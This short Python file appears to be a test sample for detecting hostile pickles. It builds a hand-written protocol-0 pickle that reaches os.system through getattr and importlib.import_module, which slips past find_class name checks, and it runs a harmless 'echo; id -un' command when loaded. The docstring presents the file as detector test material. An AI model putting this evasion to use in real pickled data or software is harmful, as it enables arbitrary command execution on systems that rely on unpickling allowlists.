# technique: T1059.006 T1203 T1059.004
"""Hand-written protocol-0 pickle: getattr(importlib.import_module("os"), "system")(cmd) (T1059.006, T1203, T1059.004).

The bytes are typed by hand, not produced by pickle.dumps: GLOBAL
builtins.getattr and importlib.import_module, so the unpickler's
find_class only ever sees harmless-looking names; "os" and "system"
arrive as string data. The command runs in a shell.

A good detector raises a high alert: unpickling reaches a process-starting
function through getattr/import_module indirection.
"""
import pickle

payload = (b"cbuiltins\ngetattr\n"
           b"(cimportlib\nimport_module\n(Vos\ntRVsystem\ntR"
           b"(Vecho hand-written pickle ran; id -un\ntR.")
print("status", pickle.loads(payload))
